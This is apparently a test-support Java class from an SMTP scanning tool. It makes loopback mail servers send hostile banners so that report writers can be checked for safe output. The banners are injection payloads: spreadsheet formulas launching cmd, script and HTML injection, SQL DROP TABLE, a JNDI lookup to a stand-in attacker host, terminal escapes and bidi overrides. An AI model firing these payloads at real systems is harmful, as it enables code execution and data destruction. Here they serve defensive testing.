package io.smtpscope.hostile;

import io.smtpscope.demo.Conversation;
import io.smtpscope.result.ScanReport;

import java.nio.charset.StandardCharsets;
import java.util.List;

/**
 * Server-chosen strings that attack whatever displays a report: spreadsheet formulas (CSV), markup and
 * script (HTML), terminal escapes, bidi overrides, NUL and invalid UTF-8. {@link #scanReport()} scans
 * loopback servers whose greetings and EHLO replies carry them, so report writers (JSON, CSV, HTML, console)
 * can be tested on a real report made from hostile input, not on hand-made strings only.
 */
public final class HostileStrings {
    /** Each one a banner text (after {@code 220 }) a hostile server sends. */
    public static final List<String> BANNERS = List.of(
            "=cmd|' /C calc'!A0 ESMTP",
            "+SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "<script>alert(1)</script> ESMTP",
            "\"><img src=x onerror=alert(1)> ESMTP",
            "</td></tr></table><h1>owned</h1>",
            "'; DROP TABLE endpoints; -- ESMTP",
            "${jndi:ldap://attacker.invalid/a} ESMTP",
            "mail.test\u001b]0;terminal title\u0007\u001b[2J ESMTP",
            "\u202emoc.elpmaxe ESMTP",
            "nul\u0000byte\u0000 ESMTP",
            "tab\there, comma, \"quote\" ESMTP");

    private HostileStrings() {
    }

    /**
     * Scans one loopback server per {@link #BANNERS} entry (plus a well-behaved one); each also lists its
     * banner as an EHLO extension line. Non-UTF-8 bytes ride along in the EHLO hostname.
     */
    public static ScanReport scanReport() throws Exception {
        try (HostileBatch batch = new HostileBatch()) {
            for (int i = 0; i < BANNERS.size(); i++) {
                String banner = BANNERS.get(i);
                batch.add("hostile-string-" + i, "plain", socket -> {
                    Conversation c = new Conversation(socket);
                    c.send(("220 " + banner + "\r\n").getBytes(StandardCharsets.UTF_8));
                    String line;
                    while ((line = c.readLine()) != null) {
                        if (line.startsWith("QUIT")) {
                            c.send("221 bye\r\n");
                            return;
                        }
                        c.send("250-hostile\u00ff\u00fe.test\r\n".getBytes(StandardCharsets.ISO_8859_1));
                        c.send(("250 " + banner + "\r\n").getBytes(StandardCharsets.UTF_8));
                    }
                });
            }
            return batch.run().report();
        }
    }
}
